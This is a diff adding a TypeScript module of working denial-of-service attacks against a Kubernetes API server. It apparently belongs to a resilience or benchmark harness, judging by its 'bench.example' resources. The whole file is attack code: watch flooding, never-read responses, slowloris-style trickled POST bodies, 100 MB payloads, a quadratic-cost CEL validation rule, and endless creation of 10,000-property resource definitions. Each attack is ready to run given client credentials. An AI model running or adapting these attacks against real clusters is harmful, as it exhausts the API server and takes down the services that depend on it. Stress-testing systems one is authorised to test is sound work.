@@ -1,0 +1,121 @@
+import { Agent, request, type AgentOptions, type RequestOptions } from 'node:https';
+
+/** The server, and with what the client shows itself. */
+export type Target = Pick<AgentOptions, 'ca' | 'cert' | 'key'> & {
+  readonly host: string;
+  readonly port: number;
+};
+
+/** Begins to do harm; resolves when it is in full swing. It ends with the process. */
+type Attack = (target: Target) => Promise<void> | void;
+
+const namespace = '/api/v1/namespaces/default';
+const definitions = '/apis/apiextensions.k8s.io/v1/customresourcedefinitions';
+
+/** Sends one request and resolves to the code of the answer, 0 when there is none. */
+export function ask(options: RequestOptions, body?: Buffer): Promise<number> {
+  return new Promise((resolve) => {
+    const outgoing = request(options, (response) => {
+      response.resume();
+      response.on('end', () => resolve(response.statusCode ?? 0));
+      response.on('error', () => resolve(0));
+    });
+    outgoing.on('error', () => resolve(0));
+    outgoing.end(body);
+  });
+}
+
+export const attacks: Readonly<Record<string, Attack>> = {
+  async '1,000 watches'(target) {
+    const agent = new Agent({ ...target, maxSockets: 1_000 });
+    const begun = Array.from(
+      { length: 1_000 },
+      () =>
+        new Promise<void>((resolve) => {
+          const outgoing = request({ ...target, agent, path: '/api/v1/configmaps?watch=1' }, (response) => {
+            response.resume();
+            resolve();
+          });
+          outgoing.on('error', () => resolve());
+          outgoing.end();
+        }),
+    );
+    await Promise.all(begun);
+  },
+  'a client that never reads'(target) {
+    const agent = new Agent({ ...target, maxSockets: 32 });
+    for (let at = 0; at < 32; at += 1) {
+      const outgoing = request({ ...target, agent, path: '/openapi/v2' }, (response) => response.pause());
+      outgoing.on('error', () => undefined);
+      outgoing.end();
+    }
+  },
+  'a byte a second'(target) {
+    const agent = new Agent({ ...target, maxSockets: 64 });
+    const headers = { 'content-type': 'application/json', 'content-length': 100_000 };
+    const open = Array.from({ length: 64 }, () => {
+      const outgoing = request({
+        ...target,
+        agent,
+        method: 'POST',
+        path: `${namespace}/configmaps`,
+        headers,
+      });
+      outgoing.on('error', () => undefined);
+      outgoing.write('{');
+      return outgoing;
+    });
+    setInterval(() => {
+      for (const one of open) one.write('{');
+    }, 1_000);
+  },
+  'bodies of 100 MB'(target) {
+    const body = Buffer.alloc(100 << 20, 0x20);
+    const headers = { 'content-type': 'application/json', 'content-length': body.length };
+    repeat(() => ask({ ...target, method: 'POST', path: `${namespace}/configmaps`, headers }, body));
+  },
+  async 'a CEL rule of quadratic cost'(target) {
+    const items = { type: 'array', maxItems: 1_000, items: { type: 'integer' } };
+    const rule = { rule: 'self.a.all(x, self.a.all(y, x == y || x != y))' };
+    const spec = { type: 'object', properties: { a: items }, 'x-kubernetes-validations': [rule] };
+    await post(target, definitions, definition('loops', spec));
+    const object = {
+      apiVersion: 'bench.example/v1',
+      kind: 'Kloops',
+      metadata: { generateName: 'a-' },
+      spec: { a: Array.from({ length: 1_000 }, (_, at) => at) },
+    };
+    repeat(() => post(target, '/apis/bench.example/v1/namespaces/default/loops', object));
+  },
+  'definitions of 10,000 properties'(target) {
+    const names = Array.from({ length: 10_000 }, (_, index) => [`p${index}`, { type: 'string' }]);
+    const spec = { type: 'object', properties: Object.fromEntries(names) };
+    let at = 0;
+    repeat(async () => {
+      at += 1;
+      const plural = `wide${process.pid}n${at}`;
+      await post(target, definitions, definition(plural, spec));
+      await ask({ ...target, method: 'DELETE', path: `${definitions}/${plural}.bench.example` });
+    });
+  },
+};
+
+function post(target: Target, path: string, object: object): Promise<number> {
+  const bytes = Buffer.from(JSON.stringify(object));
+  const headers = { 'content-type': 'application/json', 'content-length': bytes.length };
+  return ask({ ...target, path, method: 'POST', headers }, bytes);
+}
+
+/** A definition of custom resources whose `spec` has this schema. */
+function definition(plural: string, spec: object): object {
+  const schema = { openAPIV3Schema: { type: 'object', properties: { spec } } };
+  const names = { plural, singular: plural, kind: `K${plural}`, listKind: `K${plural}List` };
+  const versions = [{ name: 'v1', served: true, storage: true, schema }];
+  const metadata = { name: `${plural}.bench.example` };
+  const body = { group: 'bench.example', scope: 'Namespaced', names, versions };
+  return { apiVersion: 'apiextensions.k8s.io/v1', kind: 'CustomResourceDefinition', metadata, spec: body };
+}
+
+function repeat(once: () => Promise<unknown>): void {
+  void once().finally(() => repeat(once));
+}
